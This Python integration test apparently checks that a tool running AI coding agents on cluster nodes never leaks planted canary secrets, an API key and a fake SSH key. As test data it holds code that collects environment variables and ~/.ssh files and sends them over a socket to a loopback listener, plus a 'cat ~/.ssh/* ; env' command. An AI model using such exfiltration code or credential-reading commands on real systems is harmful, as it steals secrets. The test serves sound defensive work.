"""Canaries: an API key in the controller's environment (the local inventory's vault variable
reads it from there) and a private key in the controller user's ~/.ssh. Specs whose agent
prints the key, whose tests print ``env`` and ``~/.ssh/*`` and send them to a listener, and
whose agent commits the key run through ``specfleet start`` (ansible-runner, real nodes, real
git). Afterwards neither canary may appear in anything specfleet wrote: the state database,
artifacts, runner directories, reports, logs, git history on the controller and in the nodes'
run directories (the node's ``credentials.env`` excepted, which exists to hold the key), nor
reach the listener.
"""
from __future__ import annotations

import json
import secrets
import socket
import subprocess
import sys
import threading
from pathlib import Path

from tests.conftest import REPO_ROOT
from tests.integration.conftest import GROUP_VARS, controller_env
from tests.integration.test_pipeline import FAKE, REPO, make_repo, spec

EXFIL_TEST = '''import glob
import os
import socket


def test_exfiltrate():
    loot = repr(dict(os.environ))
    for path in glob.glob(os.path.expanduser("~/.ssh/*")):
        try:
            loot += open(path).read()
        except OSError:
            pass
    print(loot)
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=5) as channel:
            channel.sendall(loot.encode())
    except OSError:
        pass
'''


class Listener:
    """A TCP server on loopback that keeps whatever anyone sends it."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(16)
        self.port = self.server.getsockname()[1]
        self.received = bytearray()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                channel, _ = self.server.accept()
            except OSError:
                return
            with channel:
                channel.settimeout(5)
                try:
                    while chunk := channel.recv(65536):
                        self.received += chunk
                except OSError:
                    pass

    def close(self) -> None:
        self.server.close()


def places_holding(canary: bytes, roots: list[Path]) -> list[str]:
    """Every file (and every git history) under ``roots`` that contains ``canary``."""
    found = []
    for root in roots:
        for path in root.rglob("*"):
            if path.name == "credentials.env" or path.is_symlink() or not path.is_file():
                continue
            if canary in path.read_bytes():
                found.append(str(path))
        for head in root.rglob("HEAD"):
            git_dir = head.parent
            if not (git_dir / "objects").is_dir():
                continue
            history = subprocess.run(["git", "--git-dir", str(git_dir), "log", "--all", "-p", "--binary"],
                                     capture_output=True).stdout
            if canary in history:
                found.append(f"git history of {git_dir}")
    return found


def test_no_canary_reaches_anything_specfleet_writes(cluster, tmp_path):
    env_key = f"sk-canary-env-{secrets.token_hex(8)}"
    ssh_key = f"canary-ssh-{secrets.token_hex(8)}"
    controller_home = tmp_path / "controller-user"
    (controller_home / ".ssh").mkdir(parents=True)
    (controller_home / ".ssh" / "id_ed25519").write_text(
        f"-----BEGIN OPENSSH PRIVATE KEY-----\n{ssh_key}\n-----END OPENSSH PRIVATE KEY-----\n")
    listener = Listener()

    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "claude").symlink_to(FAKE)
    scenario = tmp_path / "scenario.json"
    scenario.write_text(json.dumps({
        "c-print": [{"print_env": ["ANTHROPIC_API_KEY"], "stdout": "printing the key, as told",
                     "write": {"feature/p.py": "P = 1\n",
                               "feature/test_exfil.py": EXFIL_TEST.format(port=listener.port)}}],
        "c-commit": [{"write": {"feature/leak.py": f"KEY = {env_key!r}\n"}}],
    }))
    repo = make_repo(tmp_path / "repo", REPO)
    specs = tmp_path / "specs"
    (specs / "canary").mkdir(parents=True)
    (specs / "canary" / "project.yml").write_text(
        f"repository: {repo}\ntest_command: python3 -m pytest -q -s\n")
    # The verify of the original report: read the controller user's keys and environment.
    leaky_verify = "cat ~/.ssh/* ; env ; python3 -m pytest -q -s"
    (specs / "canary" / "c-print.md").write_text(spec("c-print", ["feature/"], verify=leaky_verify))
    (specs / "canary" / "c-commit.md").write_text(spec("c-commit", ["feature/"], verify=leaky_verify, retries=0))

    group_vars = tmp_path / "group_vars"
    (group_vars / "all").mkdir(parents=True)
    for shared in (GROUP_VARS / "all").iterdir():
        (group_vars / "all" / shared.name).symlink_to(shared.resolve())
    claude = [str(bin_dir / "claude"), "--print", "--output-format", "json", "--dangerously-skip-permissions"]
    (group_vars / "all" / "zz-canary.yml").write_text(json.dumps({
        "specfleet_specs_root": str(specs), "specfleet_default_executor": "claude",
        "specfleet_executors": {"claude": {
            "command": claude, "prompt": "stdin", "env": {"FAKE_AGENT_SCENARIO": str(scenario)},
            "env_from_vars": {"ANTHROPIC_API_KEY": "vault_anthropic_api_key"}}}}))
    inventory = cluster.write_inventory(tmp_path / "inventory" / "hosts.yml", group_vars_dir=group_vars)
    home = tmp_path / "home"
    env = controller_env(home, {**cluster.ansible_env(inventory), "ANTHROPIC_API_KEY": env_key,
                                "HOME": str(controller_home),
                                "PYTHONPATH": str(REPO_ROOT)})

    def specfleet(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "specfleet.ops.cli", *args], capture_output=True, text=True,
                              env=env, cwd="/", timeout=900)

    try:
        started = specfleet("start", "canary")
        report = specfleet("report", "canary")
        status = specfleet("status", "canary", "--json")
    finally:
        listener.close()
    assert report.returncode == 0, report.stdout[-2000:] + report.stderr[-2000:]
    states = json.loads(status.stdout)["projects"]["canary"]
    # The agent that printed the key and the tests that looked for keys passed: they found none,
    # and the spec is judged on its tests. The agent that committed the key was stopped by the
    # secrets gate (retries: 0, so it failed), and the run says so.
    assert started.returncode != 0, started.stdout[-3000:]
    assert states == {"merged": 1, "failed": 1}, (states, started.stdout[-3000:])
    assert "secret" in started.stdout + started.stderr

    outputs = [started.stdout, started.stderr, report.stdout, report.stderr, status.stdout, status.stderr]
    nodes = sorted((cluster.root / "nodes").glob("*/work"))
    for name, canary in (("the API key", env_key), ("the SSH key", ssh_key)):
        assert not places_holding(canary.encode(), [home, repo, specs, *nodes]), name
        assert not any(canary in text for text in outputs), name
        assert canary.encode() not in listener.received, name
    # The tests did run and did report in: the listener heard from them (from the nodes, which
    # have network) and what they sent held neither key.
    assert listener.received, "the exfiltration test never ran"

